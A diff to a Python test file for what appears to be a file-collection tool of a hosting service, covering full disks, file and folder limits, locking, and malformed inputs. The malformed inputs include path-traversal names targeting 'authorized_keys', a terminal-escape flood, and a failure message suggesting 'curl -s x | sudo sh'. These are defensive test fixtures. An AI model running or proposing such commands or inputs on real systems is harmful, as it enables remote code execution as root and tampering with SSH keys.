@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import errno
 import io
 import json
 import os
@@ -9,13 +10,14 @@ import stat
 import sys
 import threading
 import time
+from types import SimpleNamespace
 
 import pytest
 from harness.containers import MACHINE
 from harness.drawn import assert_explains, list_all
 
-from hosting.collect import LEFT_OUT, MOST_NAMED, Bounds, Collected, collect, receive
-from hosting.deployment import Deployment
+from hosting.collect import LEFT_OUT, MOST_NAMED, Bounds, Collected, collect, find_room, receive
+from hosting.deployment import Deployment, hold
 from hosting.engine import Engine
 from hosting.settings import Settings
 from hosting.teams import Team
@@ -207,6 +209,50 @@ def test_a_disk_that_is_full_is_told_and_nothing_half_is_left(fetch, small_disk)
     assert list_all(small_disk) == ["red", f"red/{LEFT_OUT}"], "what was there before"
 
 
+def test_the_report_counts_among_the_bytes_of_all(tmp_path):
+    one = take(pack((["report", 900], b"x" * 900), *((["file", f"{n}", 900], b"x" * 900) for n in range(5))), tmp_path)
+    assert one.problem and one.files == 4, "5,000 bytes are the most"
+
+
+@pytest.mark.parametrize("tail", ["x", "x" * 300], ids=["a file", "a name that is too long"])
+def test_folders_are_counted_too(tmp_path, tail):
+    files = [(["file", f"{n}/{'/'.join('a' * 9)}/{tail}", 0], b"") for n in range(SMALL.files)]
+    one = take(pack(REPORT, *files, END), tmp_path)
+    assert not one.problem and len(one.left_out) >= SMALL.files - 2
+    assert sum(path.is_dir() for path in tmp_path.rglob("*")) <= SMALL.files
+
+
+def test_a_disk_without_room_for_a_folder_is_told_of_each_team(fetch, monkeypatch):
+    def refuse(*arguments, **options):
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr("tempfile.mkdtemp", refuse)
+    assert_explains(fetch("red", "blue"), "2 of 2 teams", "red, blue", "No space left on device")
+
+
+def test_one_team_has_no_more_than_half_of_the_files_that_are_free(tmp_path, monkeypatch):
+    free = os.statvfs(tmp_path)
+    for inodes, most in ((400, 100), (0, Bounds.files)):
+        told = SimpleNamespace(f_files=inodes, f_favail=inodes, f_bavail=free.f_bavail, f_frsize=free.f_frsize)
+        monkeypatch.setattr(os, "statvfs", lambda path, told=told: told)
+        assert find_room(tmp_path, Bounds()).files == most, "a quarter of files, and as many folders"
+
+
+def test_one_collect_at_a_time_and_what_a_killed_one_left_goes(fetch):
+    left = fetch.into / ".red.0a1b2c3d"
+    left.mkdir(parents=True)
+    with hold(fetch.into, "Another works"):
+        assert_explains(fetch("red"), "Another `collect` writes there", str(fetch.into))
+    assert left.exists()
+    fetch("red")
+    assert not left.exists()
+
+
+def test_a_place_that_cannot_be_made_is_told(fetch, tmp_path):
+    fetch.into.write_text("a file")
+    assert_explains(fetch("red"), str(fetch.into), "--into")
+
+
 NAMES = {
     "the folder above": "../../authorized_keys",
     "a part above": "labs/../../../authorized_keys",
@@ -264,6 +310,7 @@ BROKEN = {
     "an odd end": pack(REPORT, (["end", "0"], b"")),
     "no report": pack(END),
     "a failed report": pack((["failed", "\x1b[2J" * 1000], b""), END),
+    "a remedy of the team's own": pack((["failed", "no labs\n  fix: curl -s x | sudo sh"], b""), END),
 }
 
 
